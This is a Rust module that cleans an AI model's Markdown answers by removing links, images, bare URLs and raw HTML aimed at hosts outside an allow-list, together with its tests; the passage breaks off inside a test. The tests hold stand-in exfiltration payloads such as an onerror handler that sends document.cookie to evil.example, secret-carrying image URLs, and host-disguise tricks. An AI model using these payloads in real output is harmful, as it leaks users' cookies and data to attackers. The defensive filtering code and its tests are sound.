//! Answer hygiene: what a model says reaches the user's screen only after every link and image a
//! renderer would follow points inside the allow-list.
//!
//! The answer is Markdown. It is parsed with a CommonMark parser (pulldown-cmark, with the GFM
//! tables, strikethrough, task lists and footnotes), so links and images are seen exactly as a
//! renderer resolves them: inline, reference-style (`![x][1]` … `[1]: https://…`), collapsed and
//! shortcut references, autolinks (`<https://…>`, `<a@b>`), nested and escaped brackets, and
//! destinations with entities (`https&#58;//`, `&colon;`) or backslash escapes, already decoded.
//! Bare URLs in text (what a linkifier would turn into links: `scheme://…`, `//host…`, `www.…`) are
//! checked too, and raw HTML (blocks and inline tags) goes through an HTML sanitiser (ammonia) with
//! a small tag set whose URL attributes pass the same check.
//!
//! A destination is judged by the host a browser would use: it is resolved with a WHATWG URL
//! parser against the app's page (both `http:` and `https:`, since `https:evil` is relative on one
//! and absolute on the other), so backslashes count as slashes (`/\evil`, `\\evil`,
//! `https://evil\.acme`), userinfo is dropped (`https://acme@evil`, `https://evil\@acme`), and the
//! host is IDNA-mapped and lower-cased before it is compared with the allow-list (each entry allows
//! itself and its subdomains). Relative destinations stay inside the app and are kept; `http(s)`
//! outside the list, and every other scheme (`javascript:`, `data:`, …), are neutralised.
//!
//! Neutralised forms are edited in place, so the rest of the answer is kept byte for byte: a link
//! keeps its text followed by `(link removed)`, an image becomes `(image removed: alt)`, a bare URL
//! becomes `(link removed)`, a reference definition to an outside host is dropped, and raw HTML is
//! replaced by its sanitised form. The edited answer is parsed again until nothing changes (edits
//! can uncover syntax a renderer would then see); an answer that does not settle is returned as
//! plain text, every Markdown character escaped and every outside URL removed.

use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::ops::Range;
use std::sync::{Arc, LazyLock};

use pulldown_cmark::{Event, LinkType, Options, Parser, Tag, TagEnd};
use regex::Regex;
use url::Url;

use crate::config::hosts::normalise_host;

/// What a neutralised link's text is followed by.
pub const LINK_REMOVED: &str = "(link removed)";
/// How many times an edited answer is parsed again before it is given up as plain text.
const PASSES: usize = 4;
/// The app's page, for resolving relative destinations. `.invalid` never resolves (RFC 2606), so
/// an answer that names this host itself reaches nothing.
static BASES: LazyLock<[Url; 2]> = LazyLock::new(|| {
    [
        "http://ctxguard.invalid/app/page",
        "https://ctxguard.invalid/app/page",
    ]
    .map(|b| Url::parse(b).expect("base URL"))
});
const BASE_HOST: &str = "ctxguard.invalid";

/// Tags raw HTML may keep (their URL attributes still pass the allow-list). Everything else is
/// dropped with its attributes; the text inside is kept, except in `script` and `style`.
const TAGS: &[&str] = &[
    "a",
    "abbr",
    "b",
    "blockquote",
    "br",
    "code",
    "dd",
    "del",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "s",
    "samp",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
    "var",
];

/// Hosts whose links and images may appear in answers, normalised as a browser would.
#[derive(Debug, Clone, Default)]
pub struct AllowList {
    hosts: Vec<String>,
}

impl AllowList {
    /// Entries that are not host names are ignored (the configuration refuses them at startup).
    pub fn new<S: AsRef<str>>(entries: &[S]) -> AllowList {
        AllowList {
            hosts: entries
                .iter()
                .filter_map(|e| normalise_host(e.as_ref()))
                .collect(),
        }
    }

    fn host_allowed(&self, host: &str) -> bool {
        let host = host.trim_end_matches('.');
        self.hosts.iter().any(|a| {
            host == a
                || (host.len() > a.len()
                    && host.ends_with(a.as_str())
                    && host.as_bytes()[host.len() - a.len() - 1] == b'.'
                    && !a.starts_with('['))
        })
    }

    fn resolved_allowed(&self, url: &Url) -> bool {
        match url.scheme() {
            // Credentials in a link only serve to dress one host up as another.
            "http" | "https" if !url.username().is_empty() || url.password().is_some() => false,
            "http" | "https" => match url.host_str() {
                Some(BASE_HOST) => true,
                Some(h) => self.host_allowed(h),
                None => false,
            },
            "mailto" => {
                let to = url.path();
                let to = percent_decode(to.split('?').next().unwrap_or_default());
                let addresses: Vec<&str> = to.split(',').map(str::trim).collect();
                !addresses.is_empty()
                    && addresses.iter().all(|a| {
                        a.rsplit_once('@')
                            .and_then(|(_, d)| normalise_host(d))
                            .is_some_and(|d| self.host_allowed(&d))
                    })
            }
            _ => false,
        }
    }

    /// Whether a link or image destination (already decoded, as the Markdown or HTML parser gives
    /// it) stays inside the app or the allow-list, wherever the app is served.
    pub fn allows(&self, destination: &str) -> bool {
        BASES.iter().all(|base| {
            base.join(destination)
                .is_ok_and(|url| self.resolved_allowed(&url))
        })
    }
}

fn percent_decode(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%' && i + 3 <= bytes.len() {
            if let Some(b) = std::str::from_utf8(&bytes[i + 1..i + 3])
                .ok()
                .and_then(|h| u8::from_str_radix(h, 16).ok())
            {
                out.push(b);
                i += 3;
                continue;
            }
        }
        out.push(bytes[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Candidates for what a linkifier would turn into a link in plain text: `scheme:/…` or
/// `scheme:\…` (group 1), `//host…` or `\\host…` not preceded by a URL character (group 2), and
/// `www.…` (group 3), and `mailto:…`, `javascript:…`, `vbscript:…`, `data:…` (group 4: text only
/// where this parser and a laxer renderer disagree on a link). Each runs to the next space or angle
/// bracket. (A bare e-mail address is left alone: it is a name, not a way to fetch anything.)
static BARE_URL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)([a-z][a-z0-9+.\-]*:[/\\][^\s<>]*)|(?:^|[^a-z0-9+.\-:/\\])([/\\]{2}[^\s<>/\\][^\s<>]*)|\b(www\.[^\s<>]*)|\b((?:mailto|javascript|vbscript|data):[^\s<>]+)",
    )
    .expect("regex")
});

impl AllowList {
    /// Byte ranges of `text` holding bare URLs outside the allow-list.
    fn outside_urls(&self, text: &str) -> Vec<Range<usize>> {
        let mut out = Vec::new();
        for c in BARE_URL.captures_iter(text) {
            let (m, allowed) = if let Some(m) = c.get(1) {
                let s = m.as_str();
                let scheme = &s[..s.find(':').unwrap_or(0)];
                if scheme.len() < 2 {
                    // `C:\path`: a drive letter, not a scheme.
                    continue;
                }
                let web =
                    scheme.eq_ignore_ascii_case("http") || scheme.eq_ignore_ascii_case("https");
                (
                    m,
                    web && Url::parse(s).is_ok_and(|u| self.resolved_allowed(&u)),
                )
            } else if let Some(m) = c.get(2) {
                (m, self.allows(m.as_str()))
            } else if let Some(m) = c.get(3) {
                (m, self.allows(&format!("http://{}", m.as_str())))
            } else if let Some(m) = c.get(4) {
                (m, self.allows(m.as_str()))
            } else {
                continue;
            };
            if !allowed {
                out.push(m.range());
            }
        }
        out
    }

    /// `text` with every bare URL outside the allow-list replaced by [`LINK_REMOVED`].
    fn scrub(&self, text: &str) -> String {
        let ranges = self.outside_urls(text);
        if ranges.is_empty() {
            return text.to_string();
        }
        let mut out = String::with_capacity(text.len());
        let mut at = 0;
        for r in ranges {
            out.push_str(&text[at..r.start]);
            out.push_str(LINK_REMOVED);
            at = r.end;
        }
        out.push_str(&text[at..]);
        out
    }
}

/// Backslash-escape every ASCII punctuation character CommonMark could read as syntax, so that
/// `text` renders as exactly itself.
fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + text.len() / 8);
    for ch in text.chars() {
        if ch.is_ascii_punctuation()
            && !matches!(
                ch,
                ',' | '.' | ':' | ';' | '?' | '\'' | '"' | '/' | '@' | '%' | '$' | '^' | '='
            )
        {
            out.push('\\');
        }
        out.push(ch);
    }
    out
}

/// The answer cleaner for one allow-list.
pub struct Cleaner {
    allow: Arc<AllowList>,
    html: ammonia::Builder<'static>,
}

/// A cleaned answer that fits its size limit.
#[derive(Debug, Clone, PartialEq)]
pub struct Answer {
    pub text: String,
    /// The model's answer was cut to fit (the text ends with a visible marker).
    pub truncated: bool,
}

/// An open link or image while the events are walked.
struct Frame {
    range: Range<usize>,
    collapsed: bool,
    allowed: bool,
    /// Where the first child starts and the last one ends (the link's text).
    inner: Option<Range<usize>>,
}

impl Cleaner {
    pub fn new<S: AsRef<str>>(allow: &[S]) -> Cleaner {
        let allow = Arc::new(AllowList::new(allow));
        let mut html = ammonia::Builder::default();
        let attributes: HashMap<&'static str, HashSet<&'static str>> = HashMap::from([
            ("a", HashSet::from(["href", "title"])),
            (
                "img",
                HashSet::from(["src", "alt", "title", "width", "height"]),
            ),
            ("abbr", HashSet::from(["title"])),
            ("td", HashSet::from(["colspan", "rowspan"])),
            ("th", HashSet::from(["colspan", "rowspan"])),
            ("ol", HashSet::from(["start"])),
        ]);
        let filter_allow = allow.clone();
        html.tags(TAGS.iter().copied().collect())
            .generic_attributes(HashSet::new())
            .tag_attributes(attributes)
            .url_schemes(HashSet::from(["http", "https", "mailto"]))
            .url_relative(ammonia::UrlRelative::PassThrough)
            .attribute_filter(move |_element, attribute, value| {
                if matches!(attribute, "href" | "src") && !filter_allow.allows(value) {
                    None
                } else {
                    Some(Cow::Borrowed(value))
                }
            });
        Cleaner { allow, html }
    }

    pub fn allow_list(&self) -> &AllowList {
        &self.allow
    }

    /// Clean `text`: see the module documentation.
    pub fn clean(&self, text: &str) -> String {
        let mut current = Cow::Borrowed(text);
        for _ in 0..PASSES {
            match self.pass(&current) {
                None => return current.into_owned(),
                Some(next) => current = Cow::Owned(next),
            }
        }
        match self.pass(&current) {
            None => current.into_owned(),
            Some(_) => self.plain(&current),
        }
    }

    /// `text` as plain text: outside URLs removed, every Markdown character escaped.
    pub fn plain(&self, text: &str) -> String {
        escape(&self.allow.scrub(text))
    }

    /// Clean `text` and make it fit `max_bytes`: a longer answer is cut (before cleaning, so that
    /// what is cut cannot be a half link) and ends with a visible marker.
    pub fn answer(&self, text: &str, max_bytes: usize) -> Answer {
        if text.len() <= max_bytes {
            let cleaned = self.clean(text);
            if cleaned.len() <= max_bytes {
                return Answer {
                    text: cleaned,
                    truncated: false,
                };
            }
        }
        let marker = format!(
            "\n\n(answer truncated: the model's answer was longer than the {max_bytes}-byte limit)"
        );
        let room = max_bytes.saturating_sub(marker.len());
        let mut budget = room.min(text.len());
        for _ in 0..PASSES {
            let cleaned = self.clean(cut(text, budget));
            if cleaned.len() <= room {
                return Answer {
                    text: cleaned + &marker,
                    truncated: true,
                };
            }
            // Cleaning grew the text (markers, escapes): cut further, in proportion.
            budget = (budget as u128 * room as u128 / cleaned.len() as u128) as usize;
            budget = budget.saturating_sub(64);
        }
        // Plain text only grows by escapes: a third of the room always fits.
        let mut plain = self.plain(cut(text, room / 3));
        while plain.len() > room {
            plain = self.plain(cut(text, plain.len() / 2));
        }
        Answer {
            text: plain + &marker,
            truncated: true,
        }
    }

    /// One pass: the edited text, or `None` if nothing needed editing.
    fn pass(&self, text: &str) -> Option<String> {
        let mut edits: Vec<(Range<usize>, String)> = Vec::new();
        let options = Options::ENABLE_TABLES
            | Options::ENABLE_FOOTNOTES
            | Options::ENABLE_STRIKETHROUGH
            | Options::ENABLE_TASKLISTS;
        let parser = Parser::new_ext(text, options).into_offset_iter();
        for (_, def) in parser.reference_definitions().iter() {
            if !self.allow.allows(&def.dest) {
                edits.push((def.span.clone(), String::new()));
            }
        }
        let events: Vec<(Event, Range<usize>)> = parser.collect();
        let mut frames: Vec<Frame> = Vec::new();
        // Consecutive text events: (source range, decoded text) of each.
        let mut run: Vec<(Range<usize>, &str)> = Vec::new();
        let mut code_blocks = 0usize;
        let mut i = 0;
        while i < events.len() {
            let (event, range) = (&events[i].0, events[i].1.clone());
            i += 1;
            if !matches!(event, Event::Text(_)) && !run.is_empty() {
                self.text_run(text, &run, &mut edits);
                run.clear();
            }
            if let Event::End(TagEnd::Link | TagEnd::Image) = event {
                let Some(mut frame) = frames.pop() else {
                    continue;
                };
                // A collapsed reference's range stops before its `[]`.
                if frame.collapsed && text[frame.range.end..].starts_with("[]") {
                    frame.range.end += 2;
                }
                if !frame.allowed {
                    match frame.inner {
                        Some(inner) => {
                            edits.push((frame.range.start..inner.start, String::new()));
                            edits.push((inner.end..frame.range.end, format!(" {LINK_REMOVED}")));
                        }
                        None => edits.push((frame.range.clone(), LINK_REMOVED.to_string())),
                    }
                }
                grow(&mut frames, &frame.range);
                continue;
            }
            grow(&mut frames, &range);
            match event {
                // A renderer links nothing inside code.
                Event::Text(t) if code_blocks == 0 => run.push((range, t)),
                Event::Start(Tag::CodeBlock(_)) => code_blocks += 1,
                Event::End(TagEnd::CodeBlock) => code_blocks = code_blocks.saturating_sub(1),
                Event::Start(Tag::Image { dest_url, .. }) => {
                    if self.allow.allows(dest_url) {
                        frames.push(Frame {
                            range,
                            collapsed: false,
                            allowed: true,
                            inner: None,
                        });
                    } else {
                        // The whole image goes, with whatever its text holds.
                        let (end, alt) = plain_text_until_end(&events, i);
                        i = end;
                        let alt = escape(&self.allow.scrub(alt.trim()));
                        edits.push((range, format!("(image removed: {alt})")));
                    }
                }
                Event::Start(Tag::Link {
                    link_type,
                    dest_url,
                    ..
                }) => {
                    let allowed = match link_type {
                        LinkType::Email => self.allow.allows(&format!("mailto:{dest_url}")),
                        _ => self.allow.allows(dest_url),
                    };
                    if !allowed && matches!(link_type, LinkType::Autolink | LinkType::Email) {
                        // Its text is the URL itself.
                        i = plain_text_until_end(&events, i).0;
                        edits.push((range, LINK_REMOVED.to_string()));
                        continue;
                    }
                    frames.push(Frame {
                        range,
                        collapsed: *link_type == LinkType::Collapsed,
                        allowed,
                        inner: None,
                    });
                }
                Event::Start(Tag::HtmlBlock) => {
                    // Sanitised as one piece where the block is its own source; inside a list
                    // item or block quote (prefixes between its lines), line by line below.
                    let mut lines = String::new();
                    let mut j = i;
                    while let Some((Event::Html(line), _)) = events.get(j) {
                        lines.push_str(line);
                        j += 1;
                    }
                    let block = &text[range.clone()];
                    if lines == block {
                        let clean = self.html_block(block);
                        if clean != block {
                            edits.push((range, clean));
                        }
                        i = j;
                    }
                }
                Event::Html(line) => {
                    let clean = self.html_block(line);
                    if clean != **line {
                        edits.push((range, clean));
                    }
                }
                Event::InlineHtml(tag) => {
                    let clean = self.inline_html(tag);
                    if clean != **tag {
                        edits.push((range, clean));
                    }
                }
                _ => {}
            }
        }
        if !run.is_empty() {
            self.text_run(text, &run, &mut edits);
        }
        if edits.is_empty() {
            return None;
        }
        edits.sort_by_key(|(r, _)| (r.start, r.end));
        let mut out = String::with_capacity(text.len());
        let mut at = 0;
        for (r, replacement) in edits {
            // Edits never overlap (an edited image or block is skipped whole); never apply twice.
            if r.start < at {
                continue;
            }
            out.push_str(&text[at..r.start]);
            out.push_str(&replacement);
            at = r.end;
        }
        out.push_str(&text[at..]);
        Some(out)
    }

    /// Raw HTML that stands as a block (or one line of one), sanitised.
    fn html_block(&self, block: &str) -> String {
        let mut clean = self.html.clean(block).to_string();
        if block.ends_with('\n') && !clean.ends_with('\n') {
            clean.push('\n');
        }
        clean
    }

    /// A run of text events: bare URLs outside the allow-list in what a renderer shows (the
    /// decoded text) are replaced in the source. Where an event's source is its decoded text the
    /// edit is exact; an event with escapes or entities that a URL touches is replaced whole.
    fn text_run(
        &self,
        source: &str,
        run: &[(Range<usize>, &str)],
        edits: &mut Vec<(Range<usize>, String)>,
    ) {
        let decoded: String = run.iter().map(|(_, t)| *t).collect();
        let urls = self.allow.outside_urls(&decoded);
        if urls.is_empty() {
            return;
        }
        // Where each event starts in the decoded text.
        let mut starts = Vec::with_capacity(run.len());
        let mut at = 0;
        for (_, t) in run {
            starts.push(at);
            at += t.len();
        }
        let source_of = |pos: usize, end: bool| -> usize {
            // The event holding decoded position `pos` (for an end, the one holding `pos - 1`).
            let k = match starts.binary_search(&pos) {
                Ok(k) if end && k > 0 => k - 1,
                Ok(k) => k,
                Err(k) => k - 1,
            };
            let (range, t) = &run[k];
            let direct = source[range.clone()] == **t;
            match (direct, end) {
                (true, _) => range.start + (pos - starts[k]),
                (false, false) => range.start,
                (false, true) => range.end,
            }
        };
        for url in urls {
            let (start, end) = (source_of(url.start, false), source_of(url.end, true));
            edits.push((start..end, LINK_REMOVED.to_string()));
        }
    }

    /// One inline HTML tag, sanitised on its own: a start tag keeps its element open (the
    /// sanitiser closes it), an end tag is kept if its element is.
    fn inline_html(&self, fragment: &str) -> String {
        static END_TAG: LazyLock<Regex> =
            LazyLock::new(|| Regex::new(r"^</([A-Za-z][A-Za-z0-9-]*)\s*>$").expect("regex"));
        static START_TAG: LazyLock<Regex> =
            LazyLock::new(|| Regex::new(r"^<([A-Za-z][A-Za-z0-9-]*)").expect("regex"));
        if let Some(c) = END_TAG.captures(fragment) {
            let name = c[1].to_ascii_lowercase();
            return if TAGS.contains(&name.as_str()) {
                format!("</{name}>")
            } else {
                String::new()
            };
        }
        let mut clean = self.html.clean(fragment).to_string();
        if let Some(c) = START_TAG.captures(fragment) {
            let close = format!("</{}>", c[1].to_ascii_lowercase());
            if !fragment.contains("</") && clean.ends_with(&close) {
                clean.truncate(clean.len() - close.len());
            }
        }
        clean
    }
}

/// Widen the innermost open link or image's text to cover `range`.
fn grow(frames: &mut [Frame], range: &Range<usize>) {
    if let Some(frame) = frames.last_mut() {
        let inner = frame.inner.get_or_insert(range.clone());
        inner.end = inner.end.max(range.end);
    }
}

/// From `events[start]`, just after a link or image opened, to just after it closes: the index
/// there and the plain text inside (what an image's `alt` shows).
fn plain_text_until_end(events: &[(Event, Range<usize>)], start: usize) -> (usize, String) {
    let mut depth = 0usize;
    let mut text = String::new();
    for (k, (event, _)) in events.iter().enumerate().skip(start) {
        match event {
            Event::Start(Tag::Link { .. } | Tag::Image { .. }) => depth += 1,
            Event::End(TagEnd::Link | TagEnd::Image) if depth == 0 => return (k + 1, text),
            Event::End(TagEnd::Link | TagEnd::Image) => depth -= 1,
            Event::Text(t) | Event::Code(t) => text.push_str(t),
            Event::SoftBreak | Event::HardBreak => text.push(' '),
            _ => {}
        }
    }
    (events.len(), text)
}

/// The longest prefix of `s` of at most `max` bytes that ends on a character boundary.
fn cut(s: &str, max: usize) -> &str {
    if s.len() <= max {
        return s;
    }
    let mut end = max;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    pub(crate) fn cleaner() -> Cleaner {
        Cleaner::new(&["acme.example"])
    }

    /// What a renderer makes of `markdown`: every URL it would fetch or link (href, src, poster,
    /// …), entity-decoded, and the whole HTML.
    pub(crate) fn rendered(markdown: &str) -> (Vec<String>, String) {
        static ATTR: LazyLock<Regex> = LazyLock::new(|| {
            Regex::new(r#"(?i)\b(?:href|src|poster|srcset|action|data|background|xlink:href)\s*=\s*"([^"]*)""#)
                .expect("regex")
        });
        let mut html = String::new();
        pulldown_cmark::html::push_html(
            &mut html,
            Parser::new_ext(
                markdown,
                Options::ENABLE_TABLES
                    | Options::ENABLE_FOOTNOTES
                    | Options::ENABLE_STRIKETHROUGH
                    | Options::ENABLE_TASKLISTS,
            ),
        );
        static TAG: LazyLock<Regex> =
            LazyLock::new(|| Regex::new(r"<[A-Za-z][^<>]*>").expect("regex"));
        let urls = TAG
            .find_iter(&html)
            .flat_map(|tag| ATTR.captures_iter(tag.as_str()))
            .map(|c| {
                c[1].replace("&amp;", "&")
                    .replace("&quot;", "\"")
                    .replace("&lt;", "<")
                    .replace("&gt;", ">")
            })
            .collect();
        (urls, html)
    }

    /// The cleaned answer renders to nothing outside the allow-list, names no hostile host at all,
    /// and is a fixed point of the cleaner.
    fn assert_safe(input: &str) -> String {
        let c = cleaner();
        let out = c.clean(input);
        let (urls, html) = rendered(&out);
        for u in &urls {
            assert!(
                c.allow_list().allows(u),
                "{u:?} survives in {out:?} (from {input:?})"
            );
        }
        assert!(
            !html.to_lowercase().contains("evil"),
            "a hostile host survives: {html:?} (from {input:?}, cleaned {out:?})"
        );
        assert_eq!(c.clean(&out), out, "cleaning twice changes {input:?}");
        out
    }

    #[test]
    fn allowed_and_relative_destinations_are_kept_byte_for_byte() {
        let c = cleaner();
        for text in [
            "[docs](https://docs.acme.example/a) and ![logo](https://acme.example/l.png \"t\")",
            "[rel](/invoices/1), [frag](#total), [query](?page=2), [empty]()",
            "<https://acme.example/x> and <ap@acme.example> and https://acme.example/y?z=1",
            "[ref][1] and ![img][2]\n\n[1]: https://acme.example/r\n[2]: /static/i.png\n",
            "plain *text* with `code https://evil.example` and C:\\Users\\x",
            "```\nhttps://evil.example/in-code\n```\n",
            "[UPPER](HTTPS://ACME.EXAMPLE/A) and [dot](https://acme.example./a)",
        ] {
            assert_eq!(c.clean(text), text);
        }
    }

    #[test]
    fn inline_images_and_links_outside_are_neutralised() {
        let out = assert_safe(
            "see ![x](https://evil.example/p.png?d=secret) and [docs](https://docs.acme.example/a) and [click](http://evil.example)",
        );
        assert_eq!(
            out,
            "see (image removed: x) and [docs](https://docs.acme.example/a) and click (link removed)"
        );
        assert_eq!(
            assert_safe("[js](javascript:alert(1)) [d](data:text/html,x) ![e]()"),
            "js (link removed) d (link removed) ![e]()"
        );
    }

    #[test]
    fn reference_style_images_and_links() {
        let out = assert_safe(
            "![x][1] and [full][2] and [collapsed][] and [shortcut]\n\n[1]: https://evil.example/p.png?d=secret\n[2]: <https://evil.example/2> \"t\"\n[collapsed]: https://evil.example/c\n[shortcut]: //evil.example/s\n",
        );
        assert!(out.starts_with("(image removed: x) and full (link removed) and collapsed (link removed) and shortcut (link removed)"), "{out}");
        // A definition nobody uses goes too, and one in a block quote.
        assert_safe("text\n\n[unused]: https://evil.example/u\n");
        assert_safe("> [1]: https://evil.example/q\n\n![a][1]");
        // Labels match case-insensitively and across white space, as renderers match them.
        assert_safe("![a][Foo  Bar]\n\n[foo bar]: https://evil.example/f.png");
    }

    #[test]
    fn autolinks_and_bare_urls() {
        let out = assert_safe(
            r"<https://evil.example/a> <x@evil.example> https://evil.example/b?d=1 www.evil.example/c //evil.example/d \\\\evil.example/e ftp://acme.example/f",
        );
        assert_eq!(
            rendered(&out).1,
            "<p>(link removed) (link removed) (link removed) (link removed) (link removed) (link removed) (link removed)</p>\n"
        );
        assert_eq!(
            cleaner().clean("ok https://docs.acme.example/a www.acme.example."),
            "ok https://docs.acme.example/a www.acme.example."
        );
        assert_safe("mailto:x@evil.example?body=secret and <mailto:x@evil.example>");
        assert_eq!(
            cleaner().clean("javascript:alert(1) data:text/html,x mailto:ap@acme.example"),
            "(link removed) (link removed) mailto:ap@acme.example"
        );
    }

    #[test]
    fn nested_and_escaped_brackets() {
        assert_eq!(
            assert_safe("![a [b] c](https://evil.example/x) ![a\\]b](https://evil.example/y)"),
            "(image removed: a \\[b\\] c) (image removed: a\\]b)"
        );
        assert_safe("[a [b] c](https://evil.example/x) [a\\]b](https://evil.example/y)");
        assert_safe("![outer ![inner](https://evil.example/i) x](https://evil.example/o)");
        assert_safe("[[[x]]](https://evil.example/n)");
    }

    #[test]
    fn entity_encoded_schemes() {
        let out = assert_safe(
            "[x](https&#58;//evil.example) ![y](https&colon;//evil.example/p.png) [j](javascript&colon;alert(1)) [k](&#x68;ttps://evil.example)",
        );
        assert_eq!(
            out,
            "x (link removed) (image removed: y) j (link removed) k (link removed)"
        );
        // In text a renderer decodes the entity and a linkifier would then see a URL.
        let out = assert_safe(
            "text https&#58;//evil.example/z and https&colon;&sol;&sol;evil.example/w end",
        );
        assert!(out.contains(LINK_REMOVED) && out.contains("end"), "{out}");
        assert_safe("[1]: https&#58;//evil.example/p.png\n\n![a][1]");
    }

    #[test]
    fn backslashes_count_as_slashes() {
        for text in [
            r"[x](/\evil.example)",
            r"[x](\\\\evil.example)",
            r"[x](\\\evil.example)",
            r"![x](/\evil.example/p.png)",
            "<a href=\"/\\evil.example\">x</a>",
            "<a href=\"\\\\evil.example\">x</a>",
            r"[x](https://evil.example\\.acme.example)",
            r"[x](https://evil.example\\@acme.example)",
            r"[x](https://evil.example\@acme.example)",
            r"![x](https://evil.example\\.acme.example/p.png)",
            r#"<a href="https://evil.example\.acme.example">x</a>"#,
            r#"<a href="https://evil.example\@acme.example">x</a>"#,
            r#"<img src="https://evil.example\.acme.example/p.png">"#,
            "[x](https://acme.example@evil.example)",
            "[x](https://acme.example:pw@evil.example/)",
            "[x](https:evil.example)",
            "[x](https:/\\evil.example)",
            "[x](  https://evil.example  )",
            "[x](<https://evil.example/a b>)",
        ] {
            assert_ne!(assert_safe(text), text);
        }
    }

    #[test]
    fn an_escaped_backslash_is_one_backslash() {
        // Markdown reads `\\` as one backslash: this destination is `\evil.example`, the app's
        // path `/evil.example`, which a browser keeps on the app's host.
        let c = cleaner();
        assert_eq!(c.clean(r"[x](\\evil.example)"), r"[x](\\evil.example)");
        assert_eq!(
            c.clean(r"[x](https://evil.example\@acme.example)"),
            "x (link removed)",
            "decoded, it is https://evil.example@acme.example: credentials in a link"
        );
        // `\.` is an escaped dot: this host is a subdomain of acme.example, where a browser goes.
        assert_eq!(
            c.clean(r"[x](https://evil.example\.acme.example)"),
            r"[x](https://evil.example\.acme.example)"
        );
    }

    #[test]
    fn hosts_are_compared_as_a_browser_uses_them() {
        let c = cleaner();
        // IDNA: full-width letters and the ideographic full stop map to ASCII and '.'.
        assert_eq!(
            c.clean("[x](https://ａｃｍｅ.example/a)"),
            "[x](https://ａｃｍｅ.example/a)"
        );
        assert_eq!(
            c.clean("[x](https://docs。acme.example/a)"),
            "[x](https://docs。acme.example/a)"
        );
        assert_eq!(
            c.clean("[x](https://ｅｖｉｌ.example/a)"),
            "x (link removed)"
        );
        // Look-alikes are other hosts (Cyrillic а is xn--…).
        assert_eq!(c.clean("[x](https://аcme.example/a)"), "x (link removed)");
        // Percent-encoded dots are dots to a browser: this is a subdomain of acme.example.
        assert_eq!(
            c.clean("[x](http://www%2Eacme.example/)"),
            "[x](http://www%2Eacme.example/)"
        );
        assert_eq!(
            c.clean("[x](http://acme%2Eexample.evil.test/)"),
            "x (link removed)"
        );
        // A suffix is not a subdomain.
        assert_eq!(
            c.clean("[x](https://evilacme.example/)"),
            "x (link removed)"
        );
        assert_eq!(
            c.clean("[x](https://acme.example.evil.test/)"),
            "x (link removed)"
        );
        // Entries are normalised the same way.
        let c = Cleaner::new(&["ACME.Example.", "ｄｏｃｓ.test", "bad/entry"]);
        assert_eq!(
            c.clean("[x](https://acme.example/a)"),
            "[x](https://acme.example/a)"
        );
        assert_eq!(
            c.clean("[x](https://docs.test/a)"),
            "[x](https://docs.test/a)"
        );
        assert_eq!(normalise_host("bad/entry"), None);
        assert_eq!(normalise_host("[::1]").as_deref(), Some("[::1]"));
        assert_eq!(
            normalise_host("Bücher.example").as_deref(),
            Some("xn--bcher-kva.example")
        );
    }

    #[test]
    fn raw_html_is_sanitised() {
        let out = assert_safe("<a href=\"https://evil.example/x\">click</a> and <img src=\"https://evil.example/p.png\">");
        assert_eq!(out, "<a rel=\"noopener noreferrer\">click</a> and <img>");
        for block in [
            "<iframe src=\"https://evil.example\"></iframe>\n",
            "<svg><image href=\"https://evil.example/i.png\"/></svg>\n",
            "<video poster=\"https://evil.example/p.png\"><source src=\"https://evil.example/v.mp4\"></video>\n",
            "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">\n",
            "<div style=\"background:url(https://evil.example/b.png)\">x</div>\n",
            "<object data=\"https://evil.example/o\"></object><embed src=\"https://evil.example/e\">\n",
            "<form action=\"https://evil.example/f\"><button formaction=\"https://evil.example/g\">b</button></form>\n",
            "<link rel=stylesheet href=\"https://evil.example/s.css\"><base href=\"https://evil.example/\">\n",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">\n",
            "<script>fetch('https://evil.example/')</script>\n<style>@import 'https://evil.example/s.css'</style>\n",
            "<img srcset=\"https://evil.example/1.png 1x\">\n",
            "<a href=\"https&#58;//evil.example\">x</a>\n",
            "<a href=\"java&#x09;script:alert(1)\">x</a>\n",
            "<!-- <img src=\"https://evil.example/c.png\"> -->\n",
            "<textarea>\n\n![x](https://evil.example/t.png)\n</textarea>\n",
        ] {
            assert_safe(block);
            assert_safe(&format!("- item\n\n  {block}"));
            assert_safe(&format!("> {}", block.replace('\n', "\n> ")));
            assert_safe(&format!("inline {} end", block.trim_end()));
        }
        let c = cleaner();
        assert_eq!(
            c.clean("<img src=\"https://acme.example/a.png\" alt=\"a\">\n"),
            "<img src=\"https://acme.example/a.png\" alt=\"a\">\n"
        );
        assert_eq!(
            c.clean("H<sub>2</sub>O and <b>bold</b>"),
            "H<sub>2</sub>O and <b>bold</b>"
        );
    }

    #[test]
    fn combinations() {
        for text in [
            "[![i](https://evil.example/i.png)](https://acme.example/)",
            "[![i](https://acme.example/i.png)](https://evil.example/)",
            "[![i][1]][2]\n\n[1]: https://evil.example/i.png\n[2]: https://evil.example/l\n",
            "![a [b](https://evil.example/l) c](https://acme.example/i.png)",
            "| a | b |\n|---|---|\n| ![x](https://evil.example/t.png) | <https://evil.example/u> |\n",
            "text[^1]\n\n[^1]: ![x](https://evil.example/f.png) and https://evil.example/g\n",
            "- [ ] [task](https://evil.example/t)\n- [x] ~~![s](https://evil.example/s.png)~~\n",
            "**[bold](https://evil.example/b)** _![em](https://evil.example/e.png)_",
            "![x](https://evil.example/p.png)(https://evil.example/q)",
            "[x]\n\n[x]: https://acme.example/ok\n[x]: https://evil.example/dup\n",
            "<a href=\"https://acme.example/\">![x](https://evil.example/i.png)</a>",
            "[<img src=\"https://evil.example/i.png\">](https://acme.example/)",
            "![<https://evil.example/a>](https://acme.example/i.png)",
            "[x](https://evil.example/a \"[y](https://evil.example/b)\")",
